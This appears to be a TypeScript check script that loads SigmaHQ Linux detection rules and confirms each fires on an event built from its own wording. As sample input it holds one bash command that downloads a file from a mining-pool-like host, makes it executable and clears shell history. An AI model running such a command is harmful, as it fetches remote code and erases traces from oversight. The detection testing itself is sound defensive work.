import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { rulesThatHold } from "../src/scoring/sigma/assessWithRules.js";
import { parseRules } from "../src/scoring/sigma/parseRules.js";
import { SigmaRuleSet } from "../src/scoring/sigma/ruleSet.js";
import { witnessOf } from "./sigma/witness.js";

/**
 * `npm run check:sigma -- <checkout of SigmaHQ/sigma>`: every Linux rule for processes, files and connections is loaded as it is. For each an
 * event is made from the rule's own words that has to be found, and an event without fields that must not. Exits 1 where
 * a rule does not load or is wrong about its events, 2 where there is no checkout.
 */
const FOLDERS = ["process_creation", "file_event", "network_connection"];

const [checkout] = process.argv.slice(2);
if (checkout === undefined) {
  process.stderr.write("Usage: npm run check:sigma -- <folder of a checkout of github.com/SigmaHQ/sigma>\n");
  process.exit(2);
}

const failures: string[] = [];
const loaded = [];
for (const folder of FOLDERS) {
  const path = join(checkout, "rules", "linux", folder);
  const files = namesIn(path).filter((name) => name.endsWith(".yml"));
  let witnessed = 0;
  for (const name of files) {
    const { rules, problems } = parseRules(readFileSync(join(path, name), "utf8"));
    for (const { line, message } of problems) failures.push(`${folder}/${name}:${line}: ${message}`);
    for (const rule of rules) {
      const alone = new SigmaRuleSet([{ ...rule, maturity: "stable" }]);
      if (alone.evaluate([{ category: rule.categories[0]!, fields: {} }]).length > 0) failures.push(`${folder}/${name}: holds for an event without fields`);
      const event = witnessOf(rule);
      if (event !== null && alone.evaluate([event]).length === 1) witnessed++;
      else failures.push(`${folder}/${name}: no event made of its words is found`);
    }
    loaded.push(...rules);
  }
  process.stdout.write(`${folder.padEnd(20)} ${String(files.length).padStart(4)} files, ${String(witnessed).padStart(4)} rules hold for an event of theirs\n`);
}
const all = new SigmaRuleSet(loaded);
const found = rulesThatHold(all, { tool: "bash", arguments: { command: "curl -o /tmp/x https://pool.minexmr.com/x && chmod +x /tmp/x && history -c" } });
process.stdout.write(`${loaded.length} rules loaded together; one command line of three programs is found by ${found.length}: ${found.map(({ title }) => title).join("; ")}\n`);
for (const failure of failures) process.stdout.write(`FAILS ${failure}\n`);
process.exitCode = failures.length > 0 || loaded.length === 0 ? 1 : 0;

function namesIn(path: string): string[] {
  try {
    return readdirSync(path).sort();
  } catch (error) {
    process.stderr.write(`${path} cannot be read (${(error as NodeJS.ErrnoException).code}): is this a checkout of SigmaHQ/sigma?\n`);
    process.exit(2);
  }
}
